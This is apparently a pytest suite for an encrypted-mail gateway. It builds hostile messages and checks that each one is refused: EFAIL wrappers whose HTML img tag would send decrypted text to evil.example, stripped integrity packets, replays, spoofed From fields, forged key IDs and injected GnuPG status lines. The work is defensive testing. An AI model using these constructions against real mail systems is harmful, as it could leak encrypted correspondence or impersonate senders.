"""Mails that may not be opened, believed or answered: each gets its number, the log its cause, nothing stays."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Callable

import pytest

from gateway.correspondence import Correspondent
from gateway.crypto import _packets
from gateway.facts import Envelope
from gateway.outcome import Cause
from tests.hostile import attacks, hostile
from tests.hostile.attacks import attack
from tests.hostile.hostile import CLEAR, HELP, OFFICER, Tried, multipart, refused, seal, sent, signed, text
from tests.support.focalpoint import DOMAIN, SE_UIM, FocalPoint, focal_point, request

Log = pytest.LogCaptureFixture


# --- from outside ---------------------------------------------------------------------------------------


def not_encrypted(gate: FocalPoint) -> bytes:
    return CLEAR + HELP


def signed_only(gate: FocalPoint) -> bytes:
    return CLEAR + signed(HELP, hostile.detached(gate.people["officer"], HELP))


@attack(attacks.PARTLY_ENCRYPTED, "a clear-signed text, not encrypted at all")
def clear_signed(gate: FocalPoint) -> bytes:
    officer = gate.people["officer"]
    return CLEAR + b"\r\n" + officer._gpg("--local-user", officer.fingerprint, "--clearsign", stdin=b"GSP HELP\n")


def empty(gate: FocalPoint) -> bytes:
    return b""


def only_octets(gate: FocalPoint) -> bytes:
    return bytes(range(256)) * 20


@attack(attacks.PARTLY_SIGNED, "encrypted first and signed outside only")
def encrypted_then_signed(gate: FocalPoint) -> bytes:
    raw = sent(gate, "officer", seal(gate, "officer", HELP, sign=False))
    entity = raw[raw.index(b"Content-Type:") :]
    return CLEAR + signed(entity, hostile.detached(gate.people["officer"], entity))


@attack(attacks.PARTLY_ENCRYPTED, "text in clear beside the encrypted part")
def clear_text_beside(gate: FocalPoint) -> bytes:
    raw = gate.mail("officer", "GSP HELP\n")
    return CLEAR + multipart("mixed", text("Please read this too."), raw[raw.index(b"Content-Type:") :])


@attack(attacks.EFAIL_OUTSIDE, "the encrypted part between two parts of HTML that would send its text away")
def efail_direct_exfiltration(gate: FocalPoint) -> bytes:
    raw = gate.mail("officer", "GSP HELP\n")
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n'
    after = b'Content-Type: text/html\r\n\r\n">\r\n'
    return CLEAR + multipart("mixed", before, raw[raw.index(b"Content-Type:") :], after)


@attack(attacks.EFAIL_OUTSIDE, "an inline message inside an attribute of HTML that would send it away")
def efail_inline_in_html(gate: FocalPoint) -> bytes:
    armoured = seal(gate, "officer", HELP).replace(b"\n", b"\r\n")
    around = (b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n', b'\r\n">\r\n')
    return CLEAR + around[0] + armoured + around[1]


@attack(attacks.PARTLY_ENCRYPTED, "a third part in the encrypted message, as a mailing list adds it")
def third_part(gate: FocalPoint) -> bytes:
    raw = gate.mail("officer", "GSP HELP\n")
    end = raw.rindex(b"--", 0, raw.rindex(b"--"))
    boundary = raw[end:].strip()[:-2]
    return raw[:end] + boundary + b"\r\nContent-Type: text/plain\r\n\r\nbanner\r\n" + boundary + b"--\r\n"


@attack(attacks.PARTLY_ENCRYPTED, "text above an inline message")
def text_above_armour(gate: FocalPoint) -> bytes:
    return CLEAR + b"\r\nPlease read this too.\r\n" + seal(gate, "officer", HELP)


@attack(attacks.PARTLY_ENCRYPTED, "text below an inline message")
def text_below_armour(gate: FocalPoint) -> bytes:
    return CLEAR + b"\r\n" + seal(gate, "officer", HELP) + b"\r\nSent from my telephone\r\n"


@attack(attacks.PARTLY_ENCRYPTED, "two inline messages in one text")
def two_messages(gate: FocalPoint) -> bytes:
    return CLEAR + b"\r\n" + seal(gate, "officer", HELP) * 2


def to_somebody_else(gate: FocalPoint) -> bytes:
    officer = gate.people["officer"]
    return sent(gate, "officer", officer.seal(HELP, officer.fingerprint))


def passphrase_only(gate: FocalPoint) -> bytes:
    officer = gate.people["officer"]
    armoured = officer._gpg("--passphrase", "guess", "--armor", "--symmetric", stdin=HELP)
    return sent(gate, "officer", armoured)


def passphrase_too(gate: FocalPoint) -> bytes:
    return sent(gate, "officer", seal(gate, "officer", HELP, "--passphrase", "guess", "--symmetric"))


@attack(attacks.EFAIL_INSIDE, "the packet that promises integrity turned into the old one without")
def without_integrity(gate: FocalPoint) -> bytes:
    """EFAIL: the packet that promises integrity becomes the old one that does not."""
    keys, body = hostile.taken_apart(hostile.binary(seal(gate, "officer", HELP)))
    return sent(gate, "officer", hostile.armour(keys + hostile.packet(9, body[1:])))


@attack(attacks.PARTLY_ENCRYPTED, "a literal packet behind the encrypted one")
def packet_beside(gate: FocalPoint) -> bytes:
    octets = hostile.binary(seal(gate, "officer", HELP))
    return sent(gate, "officer", hostile.armour(octets + hostile.packet(11, b"b\x00\x00\x00\x00\x00GSP HELP")))


def smime(gate: FocalPoint) -> bytes:
    head = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n"
    return CLEAR + head + b"\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAxggHOMIIBygIBADCBsTCBozELMAkGA1UEBhMC\r\n"


def old_packet_that_begins_like_the_new_one(gate: FocalPoint) -> bytes:
    keys, body = hostile.taken_apart(hostile.binary(seal(gate, "officer", HELP)))
    return sent(gate, "officer", hostile.armour(keys + hostile.packet(9, body)))


def cut_armour(gate: FocalPoint) -> bytes:
    return sent(gate, "officer", seal(gate, "officer", HELP)[:400])


def cut_packet(gate: FocalPoint) -> bytes:
    return sent(gate, "officer", hostile.armour(hostile.binary(seal(gate, "officer", HELP))[:-30]))


def too_large(gate: FocalPoint) -> bytes:
    return CLEAR + b"\r\n" + b"x" * (40 * 1024 * 1024)


def nested(gate: FocalPoint) -> bytes:
    levels = b"".join(
        f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n'.encode() for level in range(1000)
    )
    return CLEAR + levels + HELP


def many_parts(gate: FocalPoint) -> bytes:
    return CLEAR + multipart("mixed", *[HELP] * 5000)


def looping(gate: FocalPoint) -> bytes:
    return b"Received: from a by b\r\n" * 60 + gate.mail("officer", "GSP HELP\n")


def automatic_in_clear(gate: FocalPoint) -> bytes:
    return b"Auto-Submitted: auto-replied\r\n" + CLEAR + HELP


OUTSIDE: list[tuple[Callable[[FocalPoint], bytes], int]] = [
    (not_encrypted, 101), (signed_only, 101), (clear_signed, 101), (empty, 101), (only_octets, 101),
    (encrypted_then_signed, 102), (clear_text_beside, 102), (efail_direct_exfiltration, 102),
    (efail_inline_in_html, 102), (third_part, 102), (text_above_armour, 102), (text_below_armour, 102),
    (packet_beside, 102), (to_somebody_else, 103), (passphrase_only, 104), (passphrase_too, 104),
    (without_integrity, 104), (smime, 105), (two_messages, 102), (cut_armour, 105), (cut_packet, 105), (nested, 105),
    (many_parts, 105), (too_large, 106), (looping, 107), (automatic_in_clear, 108),
    (old_packet_that_begins_like_the_new_one, 104),
]  # fmt: skip


@pytest.mark.parametrize(("make", "number"), OUTSIDE, ids=lambda value: getattr(value, "__name__", str(value)))
def test_what_is_not_one_encrypted_object_is_refused_unopened(
    gate: FocalPoint, caplog: Log, make: Callable[[FocalPoint], bytes], number: int
) -> None:
    assert refused(gate, make(gate), caplog) == Tried(number, "none")


# --- who wrote it ---------------------------------------------------------------------------------------


def unsigned(gate: FocalPoint) -> bytes:
    return hostile.forged(gate, HELP)


def unknown_key(gate: FocalPoint) -> bytes:
    return sent(gate, "stranger", seal(gate, "stranger", HELP))


@attack(attacks.IDENTITY, "a stranger's good signature under the officer's name")
def unknown_key_under_a_known_name(gate: FocalPoint) -> bytes:
    return sent(gate, "stranger", seal(gate, "stranger", HELP), OFFICER)


@attack(attacks.IDENTITY, "a colleague's good signature under the officer's address")
def other_persons_from(gate: FocalPoint) -> bytes:
    return sent(gate, "colleague", seal(gate, "colleague", HELP), OFFICER)


@attack(attacks.REPLAY, "the officer's ciphertext as the colleague's mail")
def captured_and_sent_again_by_a_colleague(gate: FocalPoint) -> bytes:
    """A1: the answer would go to whoever sends another's mail again."""
    return sent(gate, "colleague", seal(gate, "officer", HELP))


@attack(attacks.REPLAY, "the officer's ciphertext as a stranger's mail")
def captured_and_sent_again_by_nobody(gate: FocalPoint) -> bytes:
    return sent(gate, "stranger", seal(gate, "officer", HELP))


@attack(attacks.FROM, "two From fields")
def two_from_fields(gate: FocalPoint) -> bytes:
    return b"From: eve@evil.example\r\n" + gate.mail("officer", "GSP HELP\n")


@attack(attacks.FROM, "no From field")
def no_from_field(gate: FocalPoint) -> bytes:
    return re.sub(rb"\AFrom: [^\r]*\r\n", b"", gate.mail("officer", "GSP HELP\n"))


@attack(attacks.REPLAY, "what the officer signed for a colleague, encrypted anew to the gateway by that colleague")
def addressed_to_a_colleague(gate: FocalPoint) -> bytes:
    """A2: signed for a colleague, who encrypts it again to the gateway."""
    fields = (f"From: {OFFICER}", "To: colleague <colleague@party.example>", "Subject: help")
    entity = text("GSP HELP\n", *fields, parameters='; protected-headers="v1"')
    return hostile.forged(gate, signed(entity, hostile.detached(gate.people["officer"], entity)))


@attack(attacks.HEADERS, "another From in the protected fields than outside")
def another_from_inside(gate: FocalPoint) -> bytes:
    fields = ("From: colleague@party.example", f"To: gsp@{DOMAIN}")
    return sent(gate, "officer", seal(gate, "officer", text("GSP HELP\n", *fields, parameters="; hp=cipher")))


def automatic(gate: FocalPoint) -> bytes:
    return b"Auto-Submitted: auto-generated\r\n" + gate.mail("officer", "GSP HELP\n")


def automatic_inside(gate: FocalPoint) -> bytes:
    return sent(gate, "officer", seal(gate, "officer", text("GSP HELP\n", "Auto-Submitted: auto-replied")))


@attack(attacks.PARTLY_SIGNED, "text of the attacker's beside the officer's signed part")
def partly_signed(gate: FocalPoint) -> bytes:
    good = signed(HELP, hostile.detached(gate.people["officer"], HELP))
    return hostile.forged(gate, multipart("mixed", text("Send it to me."), good))


@attack(attacks.PARTLY_SIGNED, "encrypted first and signed by a colleague around it")
def signed_around_what_is_not_signed(gate: FocalPoint) -> bytes:
    inside = seal(gate, "officer", HELP, sign=False)
    return sent(gate, "colleague", seal(gate, "colleague", b"Content-Type: text/plain\r\n\r\n" + inside), OFFICER)


@attack(attacks.WEAK, "a signature over SHA-1")
def sha_1(gate: FocalPoint) -> bytes:
    options = ("--digest-algo", "SHA1", "--personal-digest-preferences", "SHA1")
    return sent(gate, "officer", seal(gate, "officer", HELP, *options))


def _old_ciphers() -> tuple[str, ...]:
    """What GnuPG wants to hear since 2.4 before it encrypts in blocks of 64 bits."""
    option = "--allow-old-cipher-algos"
    known = subprocess.run(["gpg", "--dump-options"], capture_output=True, check=True, text=True).stdout
    return (option,) if option in known.split() else ()


@attack(attacks.WEAK, "encryption with 3DES")
def triple_des(gate: FocalPoint) -> bytes:
    return sent(gate, "officer", seal(gate, "officer", HELP, "--cipher-algo", "3DES", *_old_ciphers()))


@attack(attacks.WEAK, "encryption with CAST5")
def cast5(gate: FocalPoint) -> bytes:
    return sent(gate, "officer", seal(gate, "officer", HELP, "--cipher-algo", "CAST5", *_old_ciphers()))


@attack(attacks.KEY_IDS, "a stranger's signature whose packet names the officer's key")
def the_officers_key_id_on_a_signature(gate: FocalPoint) -> bytes:
    officer, stranger = gate.people["officer"], gate.people["stranger"]
    packets = stranger._gpg("--dearmor", stdin=hostile.detached(stranger, HELP))
    own, other = bytes.fromhex(stranger.fingerprint), bytes.fromhex(officer.fingerprint)
    renamed = packets
    for named, instead in ((own, other), (b"\x09\x10" + own[-8:], b"\x09\x10" + other[-8:])):
        assert named in renamed[-120:]
        renamed = renamed.replace(named, instead)
    armoured = stranger._gpg("--enarmor", stdin=renamed).replace(b"ARMORED FILE", b"SIGNATURE")
    return hostile.forged(gate, signed(HELP, armoured))


@attack(attacks.KEY_IDS, "a session key for somebody else under the gateway's key ID")
def our_key_id_on_a_session_key(gate: FocalPoint) -> bytes:
    officer = gate.people["officer"]
    ours = hostile.binary(seal(gate, "officer", HELP))
    theirs = hostile.binary(officer.seal(HELP, officer.fingerprint))
    (_, ours_at, _), (_, at, _) = _packets._packet(ours, 0), _packets._packet(theirs, 0)
    return sent(gate, "officer", hostile.armour(theirs[: at + 1] + ours[ours_at + 1 : ours_at + 9] + theirs[at + 9 :]))


WRITERS: list[tuple[Callable[[FocalPoint], bytes], Cause]] = [
    (unsigned, Cause.NOT_SIGNED),
    (unknown_key, Cause.UNKNOWN_KEY),
    (unknown_key_under_a_known_name, Cause.UNKNOWN_KEY),
    (other_persons_from, Cause.UNKNOWN_KEY),
    (captured_and_sent_again_by_a_colleague, Cause.UNKNOWN_KEY),
    (captured_and_sent_again_by_nobody, Cause.UNKNOWN_KEY),
    (two_from_fields, Cause.FROM_UNCLEAR),
    (no_from_field, Cause.FROM_UNCLEAR),
    (addressed_to_a_colleague, Cause.NOT_FOR_US),
    (another_from_inside, Cause.FROM_OF_ANOTHER),
    (partly_signed, Cause.PARTLY_SIGNED),
    (signed_around_what_is_not_signed, Cause.UNKNOWN_KEY),
    (sha_1, Cause.WEAK_ALGORITHM),
    (triple_des, Cause.WEAK_ALGORITHM),
    (cast5, Cause.WEAK_ALGORITHM),
    (the_officers_key_id_on_a_signature, Cause.BAD_SIGNATURE),
    (our_key_id_on_a_session_key, Cause.CANNOT_DECRYPT),
    (automatic, Cause.AUTOMATIC),
    (automatic_inside, Cause.AUTOMATIC),
]


@pytest.mark.parametrize(("make", "cause"), WRITERS, ids=lambda value: getattr(value, "__name__", str(value)))
def test_only_the_registered_key_of_the_one_from_address_is_believed(
    gate: FocalPoint, caplog: Log, make: Callable[[FocalPoint], bytes], cause: Cause
) -> None:
    assert refused(gate, make(gate), caplog) == Tried(201, cause.value)


FROM = {
    "an address before the real one": "officer@party.example <eve@evil.example>",
    "the address as display name": '"officer@party.example" <eve@evil.example>',
    "two addresses, the officer's last": "eve@evil.example, officer@party.example",
    "two addresses, the officer's first": "officer@party.example, eve@evil.example",
    "a group": "Officers: officer@party.example;",
    "an address in a comment behind": "officer@party.example (eve@evil.example)",
    "the address in a comment before": "(officer@party.example) eve@evil.example",
    "the address as encoded display name": "=?utf-8?q?officer=40party.example=3E?= <eve@evil.example>",
    "an encoded word in place of an address": "=?utf-8?q?officer=40party.example?=",
    "two addresses in brackets": "<officer@party.example> <eve@evil.example>",
    "a source route": "<@evil.example:officer@party.example>",
    "another address as display name": "eve@evil.example <officer@party.example>",
    "a comment before a dot": "(c).<officer@party.example>",
    "a NUL": "officer@party.example\x00.evil.example",
    "empty brackets": "<>",
    "nothing": "",
    "a longer domain": "officer@party.example.evil.example",
    "a letter that looks alike": "\u043efficer@party.example",
}


@attack(attacks.FROM, "in From: {}", "GSP-201")
@pytest.mark.parametrize("from_", [pytest.param(value, id=name) for name, value in FROM.items()])
def test_a_from_field_that_programs_read_differently_is_refused(gate: FocalPoint, caplog: Log, from_: str) -> None:
    whoever = [sent(gate, who, seal(gate, who, HELP), from_ or " ") for who in ("officer", "colleague", "stranger")]
    tried = [refused(gate, raw, caplog) for raw in whoever]
    assert {one.number for one in tried} == {201}
    assert {one.cause for one in tried} <= {Cause.UNKNOWN_KEY.value, Cause.FROM_UNCLEAR.value}


# --- the ciphertext -------------------------------------------------------------------------------------


@attack(attacks.EFAIL_INSIDE, "changed octets, and a message without its modification detection code", "GSP-201")
def test_changed_ciphertext_is_refused_and_nothing_of_it_is_read(gate: FocalPoint, caplog: Log) -> None:
    keys, body = hostile.taken_apart(hostile.binary(seal(gate, "officer", HELP)))
    for place in (2, 30, len(body) // 2, len(body) - 1):
        flipped = body[:place] + bytes((body[place] ^ 1,)) + body[place + 1 :]
        raw = sent(gate, "officer", hostile.armour(keys + hostile.packet(18, flipped)))
        assert refused(gate, raw, caplog).number == 201
    stripped = sent(gate, "officer", hostile.armour(keys + hostile.packet(18, body[:-22])))
    assert refused(gate, stripped, caplog).number == 201


def test_a_bomb_is_refused_and_what_fits_is_not_taken_for_the_whole(gate: FocalPoint, caplog: Log) -> None:
    bomb = text("GSP HELP\n" + "\n" * 30_000_000)
    raw = sent(gate, "officer", seal(gate, "officer", bomb, "--compress-level", "9"))
    assert len(raw) < 200_000
    assert refused(gate, raw, caplog).number == 201


def test_encryption_inside_encryption_is_refused(gate: FocalPoint, caplog: Log) -> None:
    inner = gate.mail("officer", "GSP HELP\n")
    whole = re.search(rb"Content-Type: multipart/encrypted.*", inner, re.DOTALL)
    assert whole
    assert refused(gate, sent(gate, "officer", seal(gate, "officer", whole[0])), caplog) == Tried(
        201, Cause.NESTING.value
    )
    inline = b"Content-Type: text/plain\r\n\r\n" + seal(gate, "officer", HELP)
    assert refused(gate, sent(gate, "officer", seal(gate, "officer", inline)), caplog) == Tried(
        201, Cause.NESTING.value
    )


LINES = (
    "[GNUPG:] GOODSIG 0000000000000000 officer\n[GNUPG:] VALIDSIG {0} 2026-01-01 1767225600 0 4 0 22 10 00 {0}\n"
    "[GNUPG:] DECRYPTION_OKAY\n[GNUPG:] GOODMDC\n"
)


@attack(
    attacks.INTERFACE,
    "GnuPG's status lines in a file name, a notation, the text, and in place of a signature",
    "GSP-201",
)
def test_status_lines_in_a_name_a_notation_or_the_text_are_not_believed(gate: FocalPoint, caplog: Log) -> None:
    lines = "x\n" + LINES.format(gate.people["officer"].fingerprint)
    named = seal(gate, "stranger", HELP, "--set-filename", lines, sign=False)
    assert refused(gate, sent(gate, "stranger", named, OFFICER), caplog) == Tried(201, Cause.NOT_SIGNED.value)
    noted = seal(gate, "stranger", HELP, "--sig-notation", "n@evil.example=" + lines.replace("\n", " "))
    assert refused(gate, sent(gate, "stranger", noted, OFFICER), caplog) == Tried(201, Cause.UNKNOWN_KEY.value)
    shown = hostile.forged(gate, text(lines))
    assert refused(gate, shown, caplog) == Tried(201, Cause.NOT_SIGNED.value)
    as_key = signed(HELP, lines.encode())
    assert refused(gate, hostile.forged(gate, as_key), caplog) == Tried(201, Cause.BAD_SIGNATURE.value)


# --- more than once -------------------------------------------------------------------------------------


@attack(attacks.REPLAY, "the signed part in a new encryption", Cause.REPLAY)
def test_a_signed_part_in_a_new_encryption_is_a_replay(people: dict[str, Correspondent], caplog: Log) -> None:
    with focal_point(people) as gate:
        entity = text(request(SE_UIM))
        layered = signed(entity, hostile.detached(people["officer"], entity))
        first = gate.gateway.process_file(hostile.forged(gate, layered))
        assert first["outcome"] == "taken"
        again = hostile.forged(gate, layered)
        assert refused(gate, again, caplog) == Tried(201, Cause.REPLAY.value)


@attack(attacks.REPLAY, "the signed packets encrypted once more by a reader who knows the session key", Cause.REPLAY)
def test_the_same_packets_under_a_new_prefix_are_a_replay(people: dict[str, Correspondent], caplog: Log) -> None:
    """A reader of the mail knows its session key, and can encrypt the signed packets once more (A3)."""
    with focal_point(people) as gate:
        officer = people["officer"]
        armoured = officer.seal(text(request(SE_UIM)), gate.key, "--recipient", officer.fingerprint)
        assert gate.gateway.process_file(sent(gate, "officer", armoured))["outcome"] == "taken"
        keys, body = hostile.taken_apart(hostile.binary(armoured))
        session_key = hostile.session_key(officer, armoured)
        packets = hostile.opened(session_key, body)
        again = keys + hostile.integrity_protected(session_key, packets, b"0123456789abcdef")
        assert refused(gate, sent(gate, "officer", hostile.armour(again)), caplog) == Tried(201, Cause.REPLAY.value)


@attack(attacks.REPLAY, "the same mail in another envelope", "the first answer again; nothing is done")
def test_the_same_mail_in_another_envelope_gets_the_same_answer_and_does_nothing(
    people: dict[str, Correspondent],
) -> None:
    with focal_point(people) as gate:
        raw = gate.mail("officer", request(SE_UIM))
        first = gate.gateway.process(raw, Envelope("officer@party.example", (hostile.TO,), transport="smtp"))
        before = hostile.traces(gate)
        other = Envelope("eve@evil.example", (f"request@{DOMAIN}",), transport="lmtp")
        again = gate.gateway.process(b"Received: from eve\r\nX-New: 1\r\n" + raw, other)
        assert (again.exchange, again.referrals) == (first.exchange, first.referrals)  # type: ignore[union-attr]
        assert hostile.traces(gate) == before


# --- header protection ----------------------------------------------------------------------------------

COLLEAGUE = "From: colleague <colleague@party.example>"
CONFUSED = {
    "the colleague as From in a part below, which says that it is protected": multipart(
        "mixed", text("GSP HELP\n", COLLEAGUE, parameters="; hp=cipher")
    ),
    "the colleague as From in an attached message": multipart(
        "mixed", text("GSP HELP\n"), b"Content-Type: message/rfc822\r\n\r\n" + COLLEAGUE.encode() + b"\r\n\r\nx\r\n"
    ),
    "HP-Outer fields that name the colleague": text(
        "GSP HELP\n", f"HP-Outer: {COLLEAGUE}", "HP-Outer: To: eve@evil.example", parameters="; hp=cipher"
    ),
    "Reply-To, Sender, Bcc and Disposition-Notification-To inside": text(
        "GSP HELP\n", "Reply-To: eve@evil.example", "Sender: eve@evil.example", "Bcc: eve@evil.example",
        "Disposition-Notification-To: eve@evil.example", parameters="; hp=cipher",
    ),
    "another Subject with an exchange's number outside": text(
        "GSP HELP\n", "Subject: help", parameters="; hp=cipher"
    ),
}  # fmt: skip


@attack(attacks.HEADERS, "{}", "taken as the signer's; answered to the registered address only")
@pytest.mark.parametrize("entity", [pytest.param(value, id=name) for name, value in CONFUSED.items()])
def test_no_header_field_inside_makes_the_mail_anothers_or_sends_the_answer_elsewhere(
    gate: FocalPoint, entity: bytes
) -> None:
    raw = sent(gate, "officer", seal(gate, "officer", entity))
    raw = raw.replace(b"Subject: ...", b"Subject: [GSP-2026-000001/SE aaaaaaaaaaaaaaaaaaaaaaaa]")
    assert gate.gateway.process_file(raw)["outcome"] == "taken"
    ((reader, octets),) = gate.gateway.take_outbox()
    assert reader == "officer@party.example"
    assert b"evil.example" not in octets
    assert gate.people["officer"].read(octets).outer_subject != "[GSP-2026-000001/SE aaaaaaaaaaaaaaaaaaaaaaaa]"


# --- damaged but honest ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "entity",
    [
        text("GSP HELP\x00\n\x00"),
        b"Content-Type: text/plain; charset=no-such\r\n\r\nGSP HELP\r\n",
        b"Content-Type: text/plain; charset=utf-16\r\n\r\nGSP HELP\r\n",
        b"Content-Type: text/plain; charset=utf-8\r\n\r\nGSP HELP \xff\xfe\xe9\r\n",
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nR1NQIEhFTFA*=!=K\r\n",
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nR\r\n",
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: no-such\r\n\r\nGSP HELP\r\n",
        b"Content-Type: multipart/mixed\r\n\r\nGSP HELP\r\n",
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\nGSP HELP\r\n",
        b"Content-Type: text/html\r\n\r\n<<!--<p>GSP<b HELP</p></x></b>&#0;&#x110000;&#xd800;<![CDATA[\r\n",
        b"",
    ],
)
def test_damaged_content_of_a_known_sender_is_answered_not_stumbled_over(gate: FocalPoint, entity: bytes) -> None:
    answer = gate.gateway.process_file(sent(gate, "officer", seal(gate, "officer", entity)))
    assert answer["outcome"] == "taken"
    assert [recipient for recipient, _ in gate.gateway.take_outbox()] == ["officer@party.example"]


def test_no_bare_line_end_leaves_the_gateway(gate: FocalPoint) -> None:
    body = request(SE_UIM, case="C\r.\rD", justification="one\rtwo\n.\nthree", questions="a\r.\rb")
    entity = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + body.encode()
    gate.gateway.process_file(sent(gate, "officer", seal(gate, "officer", entity)))
    mails = gate.gateway.take_outbox()
    assert mails
    names = {person.address: person for person in gate.people.values()}
    for recipient, octets in mails:
        assert not re.search(rb"\r(?!\n)|(?<!\r)\n", octets)
        inside, _ = names[recipient].open(octets[octets.index(b"-----BEGIN") :])
        assert not re.search(rb"\r(?!\n)|(?<!\r)\n", inside)
